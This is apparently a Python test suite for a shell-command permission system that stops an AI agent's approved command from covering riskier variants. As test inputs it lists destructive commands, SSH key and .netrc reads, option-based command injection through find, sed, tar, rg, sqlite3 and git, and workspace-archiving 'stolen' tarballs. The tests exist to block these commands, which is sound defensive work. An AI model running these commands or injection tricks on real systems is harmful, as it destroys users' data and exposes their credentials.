"""Grants that cannot widen (permissions/grants.py, permissions/shellwords.py): pure, tested directly and with
hypothesis. Issue 26's cases each appear as the pair (what was approved, what rode along)."""

from __future__ import annotations

import posixpath
import shlex

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from nanohermes.permissions.grants import COMMAND, EXACT_COMMAND, Grant, command_prefix, covers, grant_for
from nanohermes.permissions.shellwords import exact_only, one_command, outside_paths

WS = "/home/me/project"


def always(command: str, **args) -> Grant | None:
    return grant_for("run_command", {"command": command, **args}, workspace=WS)


def rides(grant: Grant | None, command: str, **args) -> bool:
    return grant is not None and covers(grant, "run_command", {"command": command, **args}, workspace=WS)


@pytest.mark.parametrize(
    "approved, next_call",
    [
        ("rm -rf build", "rm -rf ../victim"),
        ("rm -rf build", "rm -rf src"),
        ("rmdir empty", "rmdir other"),
        ("mv a.txt b.txt", "mv src old"),
        ("cp -r a b", "cp -r src /tmp/x"),
        ("chmod +x run.sh", "chmod -R 777 ."),
        ("chown me a", "chown me b"),
        ("dd if=a of=b", "dd if=/dev/zero of=src/main.py"),
        ("truncate -s 0 log", "truncate -s 0 src/main.py"),
        ("shred a", "shred b"),
        ("ln -sf a b", "ln -sf x src/main.py"),
        ("git clean -n", "git clean -fdx"),
        ("git reset HEAD~1", "git reset --hard HEAD~5"),
        ("git checkout main", "git checkout -- ."),
        ("git restore a.py", "git restore ."),
        ("git push origin main", "git push --force origin main"),
        ("git push origin main", "git push -f origin main"),
        ("git push origin main", "git push origin +main"),
        ("git stash list", "git stash drop"),
        ("git branch -a", "git branch -D main"),
    ],
)
def test_a_destructive_command_rides_no_prefix_and_gets_only_an_exact_grant(approved, next_call):
    assert not rides(always(approved), next_call)
    grant = always(next_call)
    if grant is not None:  # none at all when it names a path outside the workspace
        assert grant.kind == EXACT_COMMAND and rides(grant, next_call)


@pytest.mark.parametrize(
    "approved, next_call",
    [
        ("uv run pytest", "uv run touch PWNED"),
        ("poetry run pytest", "poetry run touch PWNED"),
        ("bundle exec rspec", "bundle exec touch PWNED"),
        ("npm exec jest", "npm exec -- touch PWNED"),
        ("npx jest", "npx touch PWNED"),
        ("pnpm dlx jest", "pnpm dlx touch PWNED"),
        ("stdbuf -oL pytest", "stdbuf -oL touch PWNED"),
        ("setsid pytest", "setsid touch PWNED"),
        ("flock LOCK pytest", "flock LOCK touch PWNED"),
        ("nohup pytest", "nohup touch PWNED"),
        ("timeout 60 pytest", "timeout 60 touch PWNED"),
        ("env pytest", "env touch PWNED"),
        ("xargs echo", "xargs rm"),
        ("python3 -m pip install requests", "python3 -m pip install evil"),
        ("pip install requests", "pip install evil"),
        ("go run .", "go run github.com/evil/x@latest"),
    ],
)
def test_a_runner_is_covered_only_as_exactly_that_command(approved, next_call):
    grant = always(approved)
    assert grant.kind == EXACT_COMMAND and not rides(grant, next_call)


@pytest.mark.parametrize(
    "approved, next_call",
    [
        ("find . -name v", "find . -name v -exec rm {} +"),
        ("find . -name v", "find . -name v -delete"),
        ("find . -name v", "find . -execdir touch PWNED ;"),
        ("find . -name v", "find . -fprint ../outside/list"),
        ("sed -n 1,20p a.py", "sed -i s/a/b/ ../outside/keep.txt"),
        ("sed -n 1,20p a.py", "sed -i s/a/b/ keep.txt"),
        ("sed -n 1,20p a.py", "sed -n '1e touch PWNED' a.py"),
        ("sed -n 1,20p a.py", "sed -e 'w out' a.py"),
        ("rg foo", "rg --pre rm foo"),
        ("rg foo", "rg --pre=rm foo"),
        ("tar -tzf a.tgz", "tar --checkpoint-action=exec=touch\\ PWNED -tf a.tgz"),
        ("tar -tzf a.tgz", "tar -cf ../outside/stolen.tar ."),
        ("tar -tzf a.tgz", "tar -xf a.tgz"),
        ("tar -tzf a.tgz", "tar --to-command=sh -xf a.tgz"),
        ("sqlite3 app.db 'select 1'", "sqlite3 app.db '.shell touch PWNED'"),
        ("sqlite3 app.db 'select 1'", "sqlite3 app.db '.system touch PWNED'"),
        ("git status", "git -c core.pager=touch status"),
        ("git log", "git log --output=notes.txt"),
        ("git diff", "git diff --ext-diff"),
        ("curl -s https://example.com", "curl -o PWNED https://example.com"),
        ("gcc main.c", "gcc main.c -o main.py"),
        ("make test", "make test --eval=x:;touch"),
    ],
)
def test_an_option_that_executes_or_writes_is_never_covered_by_a_prefix(approved, next_call):
    assert not rides(always(approved), next_call)


def test_a_plain_prefix_still_covers_its_own_kind_of_call():
    assert always("pytest -q tests/").kind == COMMAND
    assert rides(always("pytest -q"), "pytest -x tests/test_a.py")
    assert rides(always("git status"), "git status --short")
    assert rides(always("find . -name '*.py'"), "find src -type f")
    assert rides(always("sed -n 1,20p a.py"), "sed -n 30,40p b.py")
    assert rides(always("tar -tzf a.tgz"), "tar -tvf b.tar")
    assert rides(always("rg foo"), "rg -n bar src")


@pytest.mark.parametrize(
    "command",
    [
        "rm -rf ../victim",
        "cat ~/.ssh/id_rsa",
        "cat $HOME/.ssh/id_rsa",
        'cat "${HOME}/.netrc"',
        "ls /etc",
        "git -C .. status",
        "cp a.txt /tmp/x",
        "dd if=a of=/dev/sda",
        "pytest --rootdir=../other",
        "pytest -p../plugin",
        "bash -c 'rm -rf ../victim'",
        "ls src/../../other",
        "/usr/bin/pytest",
    ],
)
def test_a_command_naming_a_path_outside_the_workspace_rides_no_grant_not_even_an_exact_one(command):
    assert outside_paths(command, WS)
    assert always(command) is None  # "always" for it grants nothing: it asks every time
    assert not rides(Grant(EXACT_COMMAND, command), command)
    assert not rides(Grant(EXACT_COMMAND, command, unsandboxed=True), command, unsandboxed=True)


def test_paths_inside_the_workspace_and_harmless_devices_are_not_outside():
    assert outside_paths(f"pytest {WS}/tests src/../tests -q 2>/dev/null", WS) == []
    assert rides(always("pytest -q"), f"pytest {WS}/tests")


def test_an_unsandboxed_command_gets_an_exact_grant_no_other_grant_covers():
    grant = always("pip install requests", unsandboxed=True)
    assert grant == Grant(EXACT_COMMAND, "pip install requests", unsandboxed=True)
    assert rides(grant, "pip install requests", unsandboxed=True)
    assert not rides(grant, "pip install evil", unsandboxed=True)
    assert always("pytest", unsandboxed=True).kind == EXACT_COMMAND
    assert not rides(always("pytest -q"), "pytest -q", unsandboxed=True)  # a sandboxed answer stays in the sandbox
    assert not rides(Grant(EXACT_COMMAND, "pytest"), "pytest", unsandboxed=True)


def test_a_prefix_grant_is_checked_again_whatever_its_scope_says():
    # A saved file edited by hand (or from an older version) cannot make `rm` a prefix.
    assert not rides(Grant(COMMAND, "rm"), "rm -rf src")
    assert not rides(Grant(COMMAND, "uv run"), "uv run touch PWNED")


# -- properties ---------------------------------------------------------------------------

PROGRAMS = ["pytest", "ls", "cat", "git", "rm", "find", "sed", "tar", "uv", "python3", "sudo", "/usr/bin/env", "make"]
WORDS = [
    *("status", "run", "push", "-m", "-x", "-q", "-i", "-o", "-exec", "-delete", "--pre", "-c", "--force", "-f"),
    *("tests", "src/a.py", "./b", "a/../c", "..", "../victim", "/etc/passwd", "~", "~/.ssh/id_rsa", "$HOME"),
    *(f"{WS}/src", f"{WS}/../x", "of=/tmp/x", "--file=../y", "-C/etc", "1,5p", "1e touch x", "-tf", "-cf", "rm"),
    *(";", "&&", "|", "$(id)", "`id`", ">", "out.txt", "'a b'"),
]
commands = st.builds(
    lambda program, words: " ".join([program, *words]),
    st.sampled_from(PROGRAMS),
    st.lists(st.sampled_from(WORDS), max_size=5),
)


def _program(command: str) -> str:
    return command.split()[0]


@settings(max_examples=1500, deadline=None)
@given(commands, commands, st.booleans(), st.booleans())
def test_a_covered_command_never_names_a_path_or_program_the_granted_one_did_not(approved, candidate, out1, out2):
    grant = grant_for("run_command", {"command": approved, "unsandboxed": out1}, workspace=WS)
    if not rides(grant, candidate, unsandboxed=out2):
        return
    assert outside_paths(candidate, WS) == []  # nothing outside the workspace, whatever was approved
    assert _program(candidate) == _program(approved)
    if candidate != approved:  # a prefix: one plain command, the granted words first, nothing that reaches further
        words = one_command(candidate)
        assert words is not None and not exact_only(words) and not out2
        prefix = shlex.split(grant.scope)
        assert words[: len(prefix)] == prefix and command_prefix(approved) == prefix


@settings(max_examples=500, deadline=None)
@given(commands)
def test_a_grant_covers_the_command_it_was_made_for_unless_it_names_a_path_outside(command):
    grant = always(command)
    assert (grant is None) == bool(outside_paths(command, WS))
    assert grant is None or rides(grant, command)


@settings(max_examples=500, deadline=None)
@given(st.lists(st.sampled_from(["a", "b", "..", ".", "src", "/", "x/"]), max_size=6).map("/".join))
def test_outside_means_the_normalised_path_leaves_the_workspace(path):
    inside = posixpath.normpath(posixpath.join(WS, path))
    expected = not (inside == WS or inside.startswith(WS + "/"))
    assert bool(outside_paths(f"cat {path}", WS)) == expected or path.startswith("/") or path == ""
